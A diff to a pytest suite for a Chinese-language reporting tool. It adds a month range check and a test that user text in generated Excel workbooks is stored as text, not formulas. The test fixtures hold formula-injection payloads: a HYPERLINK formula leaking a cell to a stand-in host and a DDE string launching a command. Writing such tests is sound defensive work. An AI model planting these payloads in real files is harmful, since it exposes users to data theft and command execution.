@@ -186,6 +186,14 @@ def test_a_malformed_month_is_refused_in_chinese(counted, month):
         reports.monthly_report(counted, month)
 
 
+
+@pytest.mark.parametrize("month", ["0000-01", "0001-11", "1899-12"])
+def test_a_month_out_of_range_is_refused_in_chinese(counted, month, invoke):
+    with pytest.raises(reports.ReportError, match="超出范围，应在 1900-01 至 9999-12 之间"):
+        reports.monthly_report(counted, month)
+    result = invoke("report", "--month", month, "--no-gaps")
+    assert result.exit_code == 2 and "超出范围" in result.output
+
 def test_the_report_validates_against_its_schema(march, counted):
     validator = Draft202012Validator(reports.REPORT_SCHEMA)
     Draft202012Validator.check_schema(reports.REPORT_SCHEMA)
@@ -245,6 +253,28 @@ def test_the_workbook_has_the_figures_chinese_headers_charts_and_a4_setup(march,
     assert len(charts) == 6
     assert xml.count("<lineChart>") == 1 and xml.count("<barChart>") == 5
     assert "匹配率趋势" in xml
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://x?leak="&A1,"x")'
+HOSTILE_PLATFORM = "=1+2"
+HOSTILE_REGION = "-2+3+cmd|' /C calc'!A0"
+
+
+def test_user_text_in_the_workbook_is_text_never_a_formula(counted, tmp_path):
+    store.upsert_records(counted, "demands", [{"id": "D9", "title": HOSTILE_TITLE, "description": "注入",
+                                               "region": HOSTILE_REGION, "posted_at": "2021-03-08"}])
+    store.upsert_records(counted, "supplies", [{"id": "S9", "title": "@SUM(1+1)", "description": "注入",
+                                                "platform": HOSTILE_PLATFORM, "posted_at": "2021-03-08"}])
+    store.upsert_cooperations(counted, [{"demand_id": "D4", "supply_id": "S9", "confirmed_at": "2021-03-28",
+                                         "amount_wan": 5}])
+    gaps = {"threshold": 0.5, "items": [{"demand_id": "D9", "best_score": 0.2, "best_supply_id": "S9"}]}
+    book = load_workbook(reports.render_xlsx(reports.monthly_report(counted, "2021-03", gaps), tmp_path / "r.xlsx"))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    hostile = [cell for cell in cells if cell.value in (HOSTILE_TITLE, HOSTILE_PLATFORM, HOSTILE_REGION)]
+    assert {"缺口清单", "按平台", "平台绩效", "按区市", "集群×区市"} <= {cell.parent.title for cell in hostile}
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
+    assert book["平台绩效"]["B5"].data_type == "n"   # the figures stay numbers
 
 
 # --- the command line ----------------------------------------------------------------------------------
